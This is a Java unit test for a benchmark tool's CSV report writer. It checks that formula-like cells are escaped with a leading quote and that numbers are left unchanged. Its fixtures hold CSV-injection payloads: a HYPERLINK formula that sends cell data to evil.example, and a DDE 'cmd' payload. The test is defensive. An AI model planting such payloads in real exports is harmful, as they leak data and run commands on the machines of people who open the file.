package io.openmessaging.benchmark.report;

import static org.assertj.core.api.Assertions.assertThat;

import io.openmessaging.benchmark.result.TestResult;
import java.io.StringWriter;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** CSV cells a spreadsheet would run as formulas are written as text; numbers, negative ones too, stay numbers. */
class CsvInjectionTest {

    @Test
    void aFormulaInANameIsWrittenAsTextWithASingleQuoteBeforeIt() throws Exception {
        TestResult result = new TestResult();
        result.workload = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"click\")";
        result.driver = "@SUM(1+1)*cmd|' /C calc'!A0";
        result.version = "+1+1";

        List<String> row = row(result);

        assertThat(cell(row, "workload")).isEqualTo("'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"click\")");
        assertThat(cell(row, "driver")).isEqualTo("'@SUM(1+1)*cmd|' /C calc'!A0");
        assertThat(cell(row, "version")).isEqualTo("'+1+1");
    }

    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = {"=1+2", "+cmd", "-2+3", "-x", "@A1", "\tTAB", "\rCR"})
    void everyFormulaStartIsNeutralised(String cell) {
        assertThat(CsvFormat.neutralised(cell)).isEqualTo("'" + cell);
    }

    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = {"-1.5", "-3", "+2", "-0.0000008280981931675837", "-1.5E-7", "", "Kafka", "1-topic", "a=b"})
    void numbersAndOrdinaryTextAreLeftAsTheyAre(String cell) {
        assertThat(CsvFormat.neutralised(cell)).isEqualTo(cell);
    }

    @Test
    void aNegativeFigureStaysANumberInItsColumn() throws Exception {
        TestResult result = new TestResult();
        result.testDurationSeconds = -1.5;
        result.aggregatedEndToEndLatencyAvg = -2.25;

        List<String> row = row(result);

        assertThat(cell(row, "testDurationSeconds")).isEqualTo("-1.5");
        assertThat(cell(row, "endToEndLatency.avg")).isEqualTo("-2.25");
    }

    private static List<String> row(TestResult result) throws Exception {
        StringWriter out = new StringWriter();
        new CsvFormat().writeOut(List.of(new ReportRun(Path.of("r.json"), "r", result)), out);
        List<List<String>> rows = CsvFormatTest.parse(out.toString());
        assertThat(rows).hasSize(2);
        assertThat(rows.get(1)).hasSameSizeAs(CsvFormat.header());
        return rows.get(1);
    }

    private static String cell(List<String> row, String column) {
        List<String> header = CsvFormat.header();
        for (int i = 0; i < header.size(); i++) {
            if (header.get(i).equals(column) || header.get(i).startsWith(column + " [")) {
                return row.get(i);
            }
        }
        throw new AssertionError("no column " + column + " in " + header);
    }
}
